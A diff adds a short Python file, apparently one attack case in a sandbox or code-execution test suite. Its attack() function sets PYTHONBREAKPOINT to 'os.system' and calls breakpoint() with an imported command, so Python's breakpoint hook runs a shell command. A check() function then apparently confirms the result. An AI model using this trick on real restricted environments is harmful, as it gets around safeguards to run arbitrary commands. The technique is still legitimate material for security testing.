@@ -1,0 +1,9 @@
+import os
+
+from target import COMMAND, check
+
+
+def attack():
+    os.environ["PYTHONBREAKPOINT"] = "os.system"
+    breakpoint(COMMAND)
+    return check()
